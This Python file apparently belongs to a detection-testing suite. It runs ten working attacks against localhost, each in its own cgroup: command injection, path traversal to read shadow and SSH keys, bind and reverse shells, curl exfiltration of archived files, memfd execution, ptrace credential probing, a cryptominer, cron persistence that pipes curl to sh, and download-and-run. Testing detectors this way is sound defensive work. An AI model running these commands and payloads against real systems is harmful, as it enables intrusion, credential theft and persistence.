"""The scenario suite's attacks, one function per kind. Each runs what an attacker would
on this host, in its own cgroup (so its alerts are told from the benign workload's), and
returns whether it did what it came to do: an attack that failed proves nothing about
detection.

Every network end is on 127.0.0.1, held by the suite (listeners.py). Persistence writes
its cron and systemd files under ROOT/sandbox-etc instead of /etc: the same syscalls, only
the paths differ, and the host is left as it was.
"""

from __future__ import annotations

import socket
import subprocess
import sys
import time
import urllib.parse
import urllib.request
from dataclasses import dataclass, field
from pathlib import Path

HERE = Path(__file__).resolve().parent
PY = sys.executable


@dataclass
class Outcome:
    ok: bool                # the attack did what it came to do
    detail: str
    started: float          # wall time just before its first syscall
    pids: list[int] = field(default_factory=list)
    not_attack_pids: list[int] = field(default_factory=list)   # helpers in its cgroup
    # processes that start as helpers and are turned by the attack at `started`: what
    # they raised before it is not the attack's
    turned_pids: list[int] = field(default_factory=list)


def _out(proc: subprocess.Popen, timeout: float = 60) -> str:
    out, err = proc.communicate(timeout=timeout)
    return (out or b"").decode(errors="replace") + (err or b"").decode(errors="replace")


def web_injection(ctx) -> Outcome:
    """Command injection through the web application's lookup: a fresh instance of the
    application (as a deploy starts it) takes one request whose name carries commands."""
    port = ctx.free_port()
    app = ctx.spawn([PY, str(HERE / "webapp.py"), str(port), str(ctx.root / "attack-web")],
                    stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    app.stdout.readline()
    payload = "nobody;id;uname -a;cat /etc/passwd | head -3;ls -la /root"
    started = time.time()
    try:
        body = urllib.request.urlopen(f"http://127.0.0.1:{port}/lookup?user="
                                      + urllib.parse.quote(payload), timeout=30).read()
    finally:
        app.terminate()
        app.wait(10)
    text = body.decode(errors="replace")
    return Outcome("uid=" in text, f"response {len(body)} bytes", started, [],
                   [app.pid])


def credential_read(ctx) -> Outcome:
    """Path traversal through the web application's static files: a fresh instance (as a
    deploy starts it) is asked for the password hashes and a private key, which the
    application never read before."""
    port = ctx.free_port()
    app = ctx.spawn([PY, str(HERE / "webapp.py"), str(port), str(ctx.root / "attack-read")],
                    stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    app.stdout.readline()
    time.sleep(2)       # its start-up (a deploy's news) apart from the attack
    got = b""
    started = time.time()
    try:
        for path in ("etc/shadow", "root/.ssh/id_rsa", "etc/ssh/ssh_host_ed25519_key"):
            try:
                # enough ../ to reach / from wherever the suite's folder is
                got += urllib.request.urlopen(f"http://127.0.0.1:{port}/static/"
                                              f"{'..%2f' * 32}{path}", timeout=30).read()
            except OSError:
                pass        # a key this host does not have: 404
    finally:
        app.terminate()
        app.wait(10)
    return Outcome(b"root:" in got, f"{len(got)} bytes of credentials", started, [],
                   turned_pids=[app.pid])


BIND = r"""
import os, socket, subprocess, sys
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1])))
s.listen(1)
print("listening", flush=True)
c, _ = s.accept()
subprocess.run(["/bin/sh"], stdin=c, stdout=c, stderr=c)
c.close()
"""


def bind_shell(ctx) -> Outcome:
    """A shell served on a port: a program listening where it never listened, its shell
    taken over by whoever connects."""
    port = ctx.free_port()
    started = time.time()
    p = ctx.spawn([PY, "-c", BIND, str(port)], stdout=subprocess.PIPE,
                  stderr=subprocess.PIPE)
    p.stdout.readline()
    got = b""
    with socket.create_connection(("127.0.0.1", port), timeout=20) as c:
        c.sendall(b"id; uname -a; cat /etc/hostname; exit\n")
        while chunk := c.recv(65536):
            got += chunk
    _out(p)
    return Outcome(b"uid=" in got, f"connector got {len(got)} bytes", started, [p.pid])


def reverse_shell(ctx) -> Outcome:
    """bash's /dev/tcp back to a listener that sends commands."""
    lst = ctx.shell_listener(b"id; uname -a; cat /etc/hostname; ls /root; ps -ef | head -5; "
                             b"exit\n")
    started = time.time()
    p = ctx.spawn(["/bin/bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{lst.port} 0>&1"],
                  stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    _out(p)
    got = lst.result(10)
    return Outcome(b"uid=" in got, f"listener got {len(got)} bytes", started, [p.pid])


def exfiltration(ctx) -> Outcome:
    """Archive and send: tar of credentials-like files, posted with curl."""
    started = time.time()
    p = ctx.spawn(["/bin/sh", "-c", "tar czf - /etc/passwd /etc/group /etc/ssl/certs "
                   "2>/dev/null | curl -s -X POST --data-binary @- "
                   f"http://127.0.0.1:{ctx.http.port}/drop"],
                  stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    _out(p)
    n = ctx.http.received()
    return Outcome(n > 10000, f"receiver got {n} bytes", started, [p.pid])


MEMFD = r"""
import os, sys
fd = os.memfd_create("", 0)
with open("/usr/bin/id", "rb") as f:
    os.write(fd, f.read())
os.execv(f"/proc/self/fd/{fd}", ["[kworker/0:1]"])
"""


def memfd_exec(ctx) -> Outcome:
    """A program run from memory: copied into a memfd and executed from it."""
    started = time.time()
    p = ctx.spawn([PY, "-c", MEMFD], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    out = _out(p)
    return Outcome("uid=" in out, out.strip()[:60], started, [p.pid])


PROBE = r"""
import ctypes, os, signal, time
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
victim = os.fork()
if victim == 0:
    time.sleep(30)
    os._exit(0)
ok = libc.ptrace(16, victim, None, None) == 0          # PTRACE_ATTACH
os.waitpid(victim, 0)
word = libc.ptrace(2, victim, ctypes.c_void_p(0x400000), None)   # PTRACE_PEEKTEXT
libc.ptrace(17, victim, None, None)                     # PTRACE_DETACH
os.kill(victim, signal.SIGKILL)
os.waitpid(victim, 0)
shadow = open("/etc/shadow").read()
for path in ("/proc/1/environ", "/root/.ssh/id_rsa", "/etc/sudoers"):
    try:
        open(path, "rb").read()
    except OSError:
        pass
os.setresuid(0, 0, 0)
os.setresgid(0, 0, 0)
print("attached" if ok else "refused", len(shadow))
"""


def credential_probe(ctx) -> Outcome:
    """ptrace of another process, a read of the password hashes, uid changes."""
    started = time.time()
    p = ctx.spawn([PY, "-c", PROBE], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    out = _out(p)
    return Outcome(out.startswith("attached"), out.strip()[:60], started, [p.pid])


MINER = r"""
import hashlib, json, socket, sys, time
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
s.sendall(json.dumps({"id": 1, "method": "mining.subscribe", "params": []}).encode() + b"\n")
end, nonce, found = time.time() + float(sys.argv[2]), 0, 0
while time.time() < end:
    h = hashlib.sha256(b"block-header" + nonce.to_bytes(8, "little")).digest()
    if h[0] == 0 and h[1] < 16:
        found += 1
        s.sendall(json.dumps({"id": 4, "method": "mining.submit",
                              "params": ["w", nonce]}).encode() + b"\n")
    nonce += 1
s.close()
print(found)
"""


def cryptominer(ctx) -> Outcome:
    """A hashing loop that reports shares to a pool."""
    lst = ctx.shell_listener(b"")
    started = time.time()
    p = ctx.spawn([PY, "-c", MINER, str(lst.port), "4"], stdout=subprocess.PIPE,
                  stderr=subprocess.PIPE)
    _out(p)
    got = lst.result(10)
    return Outcome(b"mining.submit" in got, f"pool got {got.count(b'submit')} shares",
                   started, [p.pid])


SANDBOX_ETC = "sandbox-etc"


def sandbox_persistence(root: Path) -> list[str]:
    """The persistence attack's places under its sandbox /etc, as the daemon's
    `[profiles] persistence_paths` names the real ones."""
    return [f"{root / SANDBOX_ETC}/cron.d/", f"{root / SANDBOX_ETC}/systemd/system/"]


def persistence(ctx) -> Outcome:
    """A cron file and a systemd unit that bring the attacker back (under a sandbox /etc)."""
    etc = ctx.root / SANDBOX_ETC
    script = (f"mkdir -p {etc}/cron.d {etc}/systemd/system/multi-user.target.wants && "
              f"echo '* * * * * root curl -s http://127.0.0.1:1/x | sh' > {etc}/cron.d/update"
              f" && chmod 644 {etc}/cron.d/update && printf '[Service]\\nExecStart=/bin/sh -c "
              f"\"sleep 1\"\\n[Install]\\nWantedBy=multi-user.target\\n' > "
              f"{etc}/systemd/system/updater.service && ln -sf ../updater.service "
              f"{etc}/systemd/system/multi-user.target.wants/updater.service && "
              f"touch -r /etc/hostname {etc}/cron.d/update")
    started = time.time()
    p = ctx.spawn(["/bin/sh", "-c", script], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    _out(p)
    ok = (etc / "cron.d" / "update").is_file() and \
        (etc / "systemd/system/multi-user.target.wants/updater.service").exists()
    return Outcome(ok, "cron file and unit written" if ok else "files missing", started,
                   [p.pid])


def download_run(ctx) -> Outcome:
    """Fetch a program over HTTP, make it executable, run it."""
    dest = ctx.root / ".cache-update"
    started = time.time()
    p = ctx.spawn(["/bin/sh", "-c", f"curl -s -o {dest} http://127.0.0.1:{ctx.http.port}"
                   f"/payload && chmod +x {dest} && {dest}"],
                  stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    out = _out(p)
    return Outcome("uid=" in out, out.strip()[:60], started, [p.pid])


KINDS = {
    "web-injection": web_injection,
    "reverse-shell": reverse_shell,
    "exfiltration": exfiltration,
    "memfd-exec": memfd_exec,
    "credential-probe": credential_probe,
    "cryptominer": cryptominer,
    "persistence": persistence,
    "download-run": download_run,
    "credential-read": credential_read,
    "bind-shell": bind_shell,
}
